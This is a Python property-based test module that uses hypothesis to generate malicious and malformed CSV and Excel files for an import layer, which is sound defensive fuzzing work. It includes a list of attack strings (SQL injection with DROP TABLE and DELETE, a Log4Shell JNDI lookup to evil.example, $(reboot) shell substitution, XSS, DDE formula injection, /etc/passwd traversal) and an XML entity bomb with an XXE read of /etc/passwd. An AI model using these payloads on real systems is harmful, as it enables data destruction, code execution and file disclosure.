"""Files as an enemy or an accident makes them: hypothesis draws them, and keeps and shrinks those that break a rule."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime

import xlsxwriter
from hypothesis import strategies as st

from data_access.records import MOVES, RECORDS, Record

TABLES = {**RECORDS, MOVES.table: MOVES}
HOSTILE = [
    "'; DROP TABLE order_lines; --", "1); DELETE FROM moves; --", "x' OR '1'='1",
    '"; ATTACH DATABASE "x.db" AS x; --', "%s", "%(name)s", ":name", "?", "{0.__class__}",
    "${jndi:ldap://evil.example}", "$(reboot)", "`reboot`", "| reboot", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<b>bold</b>", "&lt;i&gt;", "<r><t>1</t></r>", "[link](javascript:alert(1))",
    "![](https://evil.example/x.png)", "**bold**", "# heading", ":red[red]", ":material/home:", "$\\frac{1}{2}$",
    "$$\\input{/etc/passwd}$$", "=1+1", "=HYPERLINK(\"https://evil.example\")", "+1+1", "-1-1", "@SUM(A1)",
    "=cmd|'/C calc'!A0", "\t=1+1", "../../etc/passwd", "C:\\con", "/dev/null", "file:///etc/passwd", "nul\x00byte",
    "\x1b[2J", "\u202e\u0000txt", "\ufeff", "\ufffe", "\U0001f4a3", "e\u0301" * 50, "A" * 1_001, "9" * 400, "1e999",
    "-1e-999", "0x10", "NaN", "-inf", "1_000", "\u0661\u0662", "\u00b2", "\u2460", "2026-02-30", "0000-00-00",
    "9999-12-31", "31.12.26", "03/04/2026", "2026-03-16T25:61:61", "44444", "1.234,5", "1,234", "1'234.5", "(5)",
    "5-", "NULL", "\\N", "None", "", " ", '"', '""', "'", ",", ";", "a\nb", "a\r\nb", "Total", "sep=;", "\\", "\x85",
    "\u2028",
]  # fmt: skip
"""Cells that are markup, commands or formulas somewhere, or that stand at the edge of what a reader understands."""
LIKELY = ["SO-1", "PO-1", "1", "2", "C-1", "S-1", "VALVE", "MAIN", "2026-03-16", "5", "2.5", "supplier informed us"]
ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-32", "cp1252", "latin-1", "cp437", "shift_jis", "utf-7"]
NAMES = ["orders.csv", "../../etc/passwd", "a\x00b.csv", "[x](javascript:1).xlsx", "<b>.csv", "=1+1.csv", "x" * 300, ""]
_WORKBOOK = "xl/workbook.xml"
_SHEET = "xl/worksheets/sheet1.xml"
_BOMB = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY f SYSTEM "file:///etc/passwd">]>
<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&c;&f;</t></is></c></row></sheetData></worksheet>"""

cells = st.one_of(st.sampled_from(LIKELY), st.sampled_from(HOSTILE), st.text(max_size=8))


@st.composite
def rows(draw: st.DrawFn, record: Record) -> list[list[str]]:
    """Column names, most of them of this table, and rows below them, most of them as wide."""
    own = [field.name for field in record.fields]
    chosen = draw(st.lists(st.sampled_from(own), min_size=1, max_size=len(own), unique=True))
    names = [*(field.name for field in record.fields if field.is_required and draw(st.integers(0, 9))), *chosen]
    names = [*dict.fromkeys(names), *draw(st.lists(cells, max_size=2))]
    width = st.one_of(st.just(len(names)), st.integers(0, len(names) + 2))
    body = [draw(st.lists(cells, min_size=wide, max_size=wide)) for wide in draw(st.lists(width, max_size=5))]
    return [names, *body]


@st.composite
def texts(draw: st.DrawFn, record: Record) -> bytes:
    """A text file, sometimes with loose quotation marks, in any encoding."""
    delimiter, end = draw(st.sampled_from([",", ";", "\t", "|"])), draw(st.sampled_from(["\n", "\r\n", "\r"]))
    is_quoted = draw(st.booleans())
    table = [[_quoted(cell) if is_quoted else cell for cell in row] for row in draw(rows(record))]
    text = draw(st.sampled_from(["", "", "sep=;\n", "Report of March\n\n"])) + end.join(map(delimiter.join, table))
    return text.encode(draw(st.sampled_from(ENCODINGS)), "replace")


@st.composite
def sheets(draw: st.DrawFn, record: Record) -> bytes:
    """A workbook whose cells are texts, numbers, formulas and errors; some of its parts may be another thing."""
    target = io.BytesIO()
    with xlsxwriter.Workbook(target, {"strings_to_formulas": False, "strings_to_urls": False}) as book:
        book.set_properties({"created": datetime(2026, 3, 16, tzinfo=UTC)})
        page = book.add_worksheet(draw(st.sampled_from(["Sheet1", "=1+1", "<b>"])))
        writers: list[Callable[..., object]] = [page.write_string, page.write_string, page.write_formula]
        for row_no, row in enumerate(draw(rows(record))):
            for place, cell in enumerate(row):
                text = "".join(letter for letter in cell if letter.isprintable())
                draw(st.sampled_from(writers if text.strip(" ={}") else writers[:1]))(row_no, place, text)
        page.write_number(20, draw(st.integers(0, 300)), draw(st.floats(allow_nan=False, allow_infinity=False)))
    return draw(st.one_of(st.just(target.getvalue()), with_another_part(target.getvalue())))


@st.composite
def with_another_part(draw: st.DrawFn, workbook: bytes) -> bytes:
    """The workbook with one part replaced, taken away or doubled."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook)) as old, zipfile.ZipFile(target, "w") as new:
        changed = draw(st.sampled_from([_WORKBOOK, _SHEET, *old.namelist()]))
        content = draw(st.sampled_from([None, b"", b"<", _BOMB, b"\x00" * 100]))
        for part in old.namelist():
            kept = content if part == changed else old.read(part)
            if kept is not None:
                new.writestr(zipfile.ZipInfo(part), kept)
    return target.getvalue()


@st.composite
def damaged(draw: st.DrawFn, files: st.SearchStrategy[bytes]) -> bytes:
    """A file of which a piece was cut off, overwritten or put in twice."""
    content = draw(files)
    start = draw(st.integers(0, max(len(content) - 1, 0)))
    end = min(len(content), start + draw(st.integers(0, 40)))
    middle = draw(st.sampled_from([b"", b"\x00", b'"', b"\xff\xfe", b"\xc3", content[:200], content[start:end] * 3]))
    return draw(st.sampled_from([content[:start], content[:start] + middle + content[end:]]))


def files(record: Record) -> st.SearchStrategy[bytes]:
    """A file that says it is this table."""
    whole = st.one_of(texts(record), texts(record), sheets(record))
    return st.one_of(whole, whole, damaged(whole), st.binary(max_size=200))


def _quoted(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"'
